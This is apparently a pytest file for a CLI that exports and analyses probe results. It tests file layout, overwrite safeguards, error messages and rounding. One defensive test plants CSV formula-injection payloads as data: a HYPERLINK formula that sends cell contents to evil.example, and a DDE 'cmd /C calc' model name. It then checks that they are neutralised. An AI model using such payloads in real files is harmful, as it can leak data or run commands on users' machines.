"""`probes export` and `probes analyze --release-rounding` through the real command line.

What a user sees: the files written and listed, or, for bad input, exit 1 with one `error:`
line and nothing written (no folder, no staging folder left beside it).
"""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from analysis.attribution import release as rel
from analysis.load import join, load_prompts, load_results
from cli_fixture import one_line_error
from probes.cli import app
from release_configs_fixture import result_rows, single_actor_rows, write_prompts, write_results

runner = CliRunner()
MODEL = "model-a"


@pytest.fixture()
def scored(tmp_path: Path) -> dict[str, Path]:
    rng = np.random.default_rng(11)
    rows = single_actor_rows(rng, scenarios=2)
    write_prompts(tmp_path / "prompts", {"single_actor_release": rows})
    write_results(tmp_path / "results", "single_actor_release", result_rows(rows, rng))
    return {"prompts": tmp_path / "prompts", "results": tmp_path / "results", "root": tmp_path}


def _export(scored: dict[str, Path], out: Path, *extra: str):
    return runner.invoke(
        app, ["export", str(scored["results"]), "--prompts", str(scored["prompts"]), "--out", str(out), *extra]
    )


def _nothing_written(out: Path) -> None:
    assert not out.exists()
    assert not [p for p in out.parent.iterdir() if p.name.startswith(f".{out.name}")], "a staging folder was left"


def test_export_writes_the_release_files_and_lists_them(scored) -> None:
    out = scored["root"] / "outputs"
    result = _export(scored, out, "--round", "2")
    assert result.exit_code == 0, result.output
    files = sorted(p.relative_to(out).as_posix() for p in out.rglob("*.csv"))
    assert files == [
        f"closed_ended/single_actor/{d}/{MODEL}/closed_ended_{o}_{MODEL}_{d}_all_1_runs.csv"
        for d in ("nationality", "religion")
        for o in ("failure", "success")
    ]
    assert all(f"closed_ended_{o}_{MODEL}" in result.output for o in ("failure", "success"))
    frame = pd.read_csv(out / files[0])
    assert frame["opt1_loweffort"].map(lambda v: round(v, 2) == v).all()
    # an earlier export is replaced only with --overwrite
    one_line_error(_export(scored, out), "already exists", "--overwrite")
    assert _export(scored, out, "--overwrite", "--format", "jsonl").exit_code == 0
    assert sorted(p.name for p in out.iterdir()) == ["export_manifest.json", "single_actor_release.jsonl"]


def test_export_overwrite_keeps_a_git_folder_and_files_in_its_subfolders(scored) -> None:
    """`export --overwrite` replaced a folder holding `.git`, `.notes` and a user's file inside the release layout:
    now it refuses naming the first of them and deletes nothing; its own export alone is replaced."""
    import hashlib
    import shutil
    import subprocess

    def tree(root: Path) -> dict[str, str]:
        return {
            str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest() for p in root.rglob("*") if p.is_file()
        }

    out = scored["root"] / "outputs"
    assert _export(scored, out).exit_code == 0
    subprocess.run(["git", "init", "-q", str(out)], check=True)
    (out / ".notes").write_text("mine\n")
    (inner,) = {p.parent for p in out.rglob("*.csv") if "religion" in p.parts}
    (inner / "my_analysis.csv").write_text("mine\n")
    before = tree(out)
    line = one_line_error(_export(scored, out, "--overwrite"), ".git/", "nothing was replaced or deleted")
    assert tree(out) == before, line
    shutil.rmtree(out / ".git")
    one_line_error(_export(scored, out, "--overwrite"), ".notes")
    (out / ".notes").unlink()
    one_line_error(_export(scored, out, "--overwrite"), "my_analysis.csv")
    assert (inner / "my_analysis.csv").read_text() == "mine\n"
    (inner / "my_analysis.csv").unlink()
    assert _export(scored, out, "--overwrite").exit_code == 0


def test_csv_cells_from_a_dataset_or_a_model_name_are_inert_in_a_spreadsheet(tmp_path: Path) -> None:
    """Names from a dataset and a model name beginning with `=`, `+`, `-`, `@` were written verbatim into the
    export's and the report's CSV files, where a spreadsheet runs them: every such text cell now begins with `'`.
    Read back with the csv module, cell by cell, as a spreadsheet splits them."""
    import csv

    rng = np.random.default_rng(5)
    rows = single_actor_rows(rng, scenarios=2)
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Liam")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]
    for k, row in enumerate(rows[: len(evil)]):
        row["name"] = evil[k]
    model = "=cmd|'/C calc'!A0"
    write_prompts(tmp_path / "prompts", {"single_actor_release": rows})
    write_results(tmp_path / "results", "single_actor_release", result_rows(rows, rng, model=model), model=model)
    scored = {"prompts": tmp_path / "prompts", "results": tmp_path / "results"}
    out = tmp_path / "export"
    assert _export(scored, out).exit_code == 0
    report = tmp_path / "report"
    analyzed = runner.invoke(
        app, ["analyze", "--prompts", str(scored["prompts"]), "--results", str(scored["results"]), "--out", str(report)]
    )
    assert analyzed.exit_code == 0, analyzed.output
    files = [*out.rglob("*.csv"), *report.rglob("*.csv")]
    assert any(p.is_relative_to(report) for p in files) and any(p.is_relative_to(out) for p in files)
    cells = [cell for path in files for line in csv.reader(path.open(newline="")) for cell in line]
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell)]
    assert not live, live[:5]
    assert {"'" + name for name in evil} <= set(cells)
    assert "'" + model in cells  # the model column of the export and of every report table
    numbers = [cell for cell in cells if _is_number(cell) and cell.startswith("-")]
    assert numbers  # negative numbers stay numbers


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["--round", "7"], ["--round", "between 0 and 6", "7"]),
        (["--round", "-1"], ["--round", "between 0 and 6"]),
        (["--format", "xlsx"], ["--format", "talent-or-luck-csv", "xlsx"]),
        (["--format", "jsonl", "--round", "2"], ["--round applies to --format talent-or-luck-csv"]),
    ],
)
def test_bad_options_are_one_line_and_write_nothing(scored, args: list[str], words: list[str]) -> None:
    out = scored["root"] / "outputs"
    one_line_error(_export(scored, out, *args), *words)
    _nothing_written(out)


def test_prompts_the_results_were_not_scored_on_are_one_line(scored, tmp_path: Path) -> None:
    rng = np.random.default_rng(12)
    rows = single_actor_rows(rng, scenarios=1)
    other = tmp_path / "other"
    write_results(other, "single_actor_release", result_rows(rows, rng), fingerprint="e" * 64)
    out = tmp_path / "outputs"
    line = one_line_error(_export({**scored, "results": other}, out), "results_manifest.json", "fingerprint")
    assert "eeeeeeeeeeee" in line and "ffffffffffff" in line
    # it advised --allow-fingerprint-mismatch, which export does not have: only what export can do
    assert "--allow-fingerprint-mismatch" not in line and "rerun the model on these prompts" in line
    _nothing_written(out)


def test_results_of_another_probe_are_one_line(tmp_path: Path) -> None:
    rng = np.random.default_rng(13)
    rows = [{**r, "probe": "empathy"} for r in single_actor_rows(rng, scenarios=1)]
    write_prompts(tmp_path / "prompts", {"religion_P0S0T0": rows})
    write_results(tmp_path / "results", "religion_P0S0T0", result_rows(rows, rng))
    out = tmp_path / "outputs"
    scored = {"prompts": tmp_path / "prompts", "results": tmp_path / "results"}
    one_line_error(_export(scored, out, "--format", "talent-or-luck-csv"), "religion_P0S0T0", "empathy", "not Talent")
    _nothing_written(out)
    # without --format, a probe with no format of its own gets JSONL (any probe's rows go there)
    assert _export(scored, out).exit_code == 0
    assert sorted(p.name for p in out.iterdir()) == ["export_manifest.json", "religion_P0S0T0.jsonl"]
    one_line_error(_export(scored, tmp_path / "rounded", "--round", "2"), "--round applies to", "jsonl keeps every")


def test_results_without_release_configs_are_one_line(tmp_path: Path) -> None:
    rng = np.random.default_rng(14)
    rows = single_actor_rows(rng, scenarios=1)
    write_prompts(tmp_path / "prompts", {"single_actor": rows})
    write_results(tmp_path / "results", "single_actor", result_rows(rows, rng))
    out = tmp_path / "outputs"
    scored = {"prompts": tmp_path / "prompts", "results": tmp_path / "results"}
    one_line_error(_export(scored, out), "no *_release config", "single_actor", "single_actor_release")
    _nothing_written(out)
    one_line_error(_export(scored, out, "--config", "single_actor"), "--config single_actor", "release")
    _nothing_written(out)


def test_analyze_release_rounding_rounds_the_release_tables_only(scored) -> None:
    tables = {}
    for flag in ([], ["--release-rounding"]):
        report = scored["root"] / f"report{len(flag)}"
        args = ["analyze", "--prompts", str(scored["prompts"]), "--results", str(scored["results"])]
        result = runner.invoke(app, [*args, "--out", str(report), "--no-figures", "--permutations", "10", *flag])
        assert result.exit_code == 0, result.output
        tables[bool(flag)] = pd.read_csv(report / "tables" / "attribution_release_single_actor.csv")
        html = (report / "report.html").read_text()
        assert "Follows the release's code" in html
        assert ("Attribution: <code>--release-rounding</code> on" in html) is bool(flag)
    rows = join(
        load_prompts(scored["prompts"], "single_actor_release"), load_results(scored["results"], "single_actor_release")
    )
    for rounding in (False, True):
        want = rel.release_tables({rel.SINGLE: rows}, rounding=rounding)["release_single_actor"]
        assert np.allclose(tables[rounding]["mean"], want["mean"], rtol=0, atol=1e-12)
    assert not np.allclose(tables[False]["mean"], tables[True]["mean"], rtol=0, atol=1e-6)
